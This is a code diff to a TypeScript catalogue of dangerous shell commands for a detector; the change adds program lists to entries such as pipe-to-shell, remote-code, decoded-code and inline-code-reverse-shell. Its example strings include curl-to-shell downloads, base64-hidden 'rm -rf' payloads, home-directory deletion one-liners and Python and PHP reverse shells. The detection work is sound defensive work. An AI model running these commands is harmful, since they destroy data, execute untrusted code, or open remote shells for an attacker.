@@ -1,7 +1,7 @@
 // Danger catalogue, code execution: shells fed from pipes, code from the network, hidden payloads, escapes.
 import type { DangerEntry } from './danger-entry.ts';
 import type { CommandView } from '../shell/view.ts';
-import { DECODERS, DOWNLOADERS, INTERPRETERS, SHELLS } from './programs.ts';
+import { CODE_RUNNERS, DECODERS, DOWNLOADERS, INTERPRETERS, SHELLS } from './programs.ts';
 import { DELETE_API, REMOTE_EVAL, REVERSE_SHELL, SPAWN_API, codeOutsideStrings, inlineCode } from './inline-code.ts';
 import { sedExecutes } from './sed-script.ts';
 import { hasFlag } from './flags.ts';
@@ -53,16 +53,19 @@ const downloaded = (v: CommandView, path: string): boolean => {
 export const EXEC_DANGERS: DangerEntry[] = [
   {
     id: 'pipe-to-shell', risk: 'high', reason: 'pipes text into a shell that runs it as commands',
+    programs: [...SHELLS],
     examples: ["echo 'rm -fr ~' |bash", 'curl -fsSL https://x/i.sh | sh', 'cat x | sudo bash -s', 'base64 -d payload | zsh'],
     match: (v) => SHELLS.has(v.program) && v.stdin?.kind === 'pipe' && shellReadsStdin(v),
   },
   {
     id: 'remote-code', risk: 'high', reason: 'runs code fetched from the network (curl | python, bash <(curl …), sh -c "$(curl …)")',
+    programs: CODE_RUNNERS,
     examples: ['curl -sL https://x/setup.py | python3', 'source <(curl -s https://x/env.sh)', 'sh -c "$(curl -fsSL https://x/i.sh)"', 'python3 <(curl -s https://x/a.py)', 'eval "$(wget -qO- https://x)"'],
     match: (v) => isRunner(v) && codeSources(v).some((p) => DOWNLOADERS.has(p)),
   },
   {
     id: 'decoded-code', risk: 'high', reason: 'runs code that was decoded or unscrambled first (base64 -d, xxd -r, rev): a hidden payload',
+    programs: CODE_RUNNERS,
     examples: ['echo cm0gLXJmIH4= | base64 -d | perl', 'eval "$(echo ZWNobw== | base64 -d)"', 'python3 <(xxd -r -p x.hex)'],
     match: (v) => isRunner(v) && codeSources(v).some((p) => DECODERS.has(p)),
   },
@@ -81,6 +84,7 @@ export const EXEC_DANGERS: DangerEntry[] = [
   },
   {
     id: 'editor-shell-escape', risk: 'high', reason: 'an editor started with a command that escapes to the shell (:!cmd, system())',
+    programs: ['vim', 'vi', 'nvim', 'ex', 'view', 'gvim', 'rvim', 'vimdiff', 'less', 'more'],
     examples: ["vim -es -c '!rm -r ~/src' -c q", "vi -c ':!sh' x", "nvim --cmd 'call system(\"id\")'", "ex +'!id' f", "less +'!rm -rf ~' file"],
     match: (v) => /^(vim|vi|nvim|ex|view|gvim|rvim|vimdiff|less|more)$/.test(v.program) && v.args.some((a, i) => {
       const cmd = a === '-c' || a === '--cmd' ? v.args[i + 1] ?? '' : a.startsWith('+') ? a.slice(1) : undefined;
@@ -89,26 +93,31 @@ export const EXEC_DANGERS: DangerEntry[] = [
   },
   {
     id: 'inline-code-delete', risk: 'high', reason: 'inline interpreter code deletes files or trees (shutil.rmtree, rm_rf, fs.rmSync, unlink)',
+    programs: CODE_RUNNERS,
     examples: ["perl -e 'use File::Path; rmtree($ENV{HOME})'", "ruby -rfileutils -e 'FileUtils.rm_rf(Dir.home)'", 'python3 -c "import shutil; shutil.rmtree(\'/srv\')"', "node -e \"require('fs').rmSync('/x',{recursive:true})\""],
     match: (v) => inlineCode(v).some((c) => c.language !== 'awk' && DELETE_API.test(codeOutsideStrings(c.code))),
   },
   {
     id: 'inline-code-remote', risk: 'high', reason: 'inline code downloads code and evaluates it',
+    programs: CODE_RUNNERS,
     examples: ['python3 -c "exec(__import__(\'urllib.request\').request.urlopen(\'https://x\').read())"'],
     match: (v) => inlineCode(v).some((c) => REMOTE_EVAL.test(c.code)),
   },
   {
     id: 'inline-code-reverse-shell', risk: 'high', reason: 'inline code connects a socket to a shell (a reverse shell)',
+    programs: CODE_RUNNERS,
     examples: ['python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'', 'php -r \'$s=fsockopen("10.0.0.1",9);exec("/bin/sh -i <&3 >&3");\''],
     match: (v) => inlineCode(v).some((c) => REVERSE_SHELL.test(c.code)),
   },
   {
     id: 'inline-code-spawn', risk: 'medium', reason: 'inline interpreter code starts a shell or another program',
+    programs: CODE_RUNNERS,
     examples: ['python3 -c "import os; os.system(\'ls\')"', "awk 'BEGIN { system(\"date\") }'", "node -e \"require('child_process').execSync('ls')\"", "perl -e 'print `id`'"],
     match: (v) => inlineCode(v).some((c) => SPAWN_API.test(codeOutsideStrings(c.code)) || (c.language === 'awk' && /\|\s*"|"\s*\|\s*getline/.test(c.code))),
   },
   {
     id: 'xargs-shell', risk: 'medium', reason: 'xargs (or parallel) hands its input to a shell as commands',
+    programs: ['xargs', 'parallel'],
     examples: ['cat cmds.txt | xargs -I{} sh -c {}', 'parallel ::: "$@"'],
     match: (v) => (v.program === 'xargs' && v.args.some((a) => SHELLS.has(a)) && v.args.includes('-c') && v.args.some((a) => /^\{\}$|^-I/.test(a)) && !hasFlag(v.args, '0', [])) || v.program === 'parallel',
   },
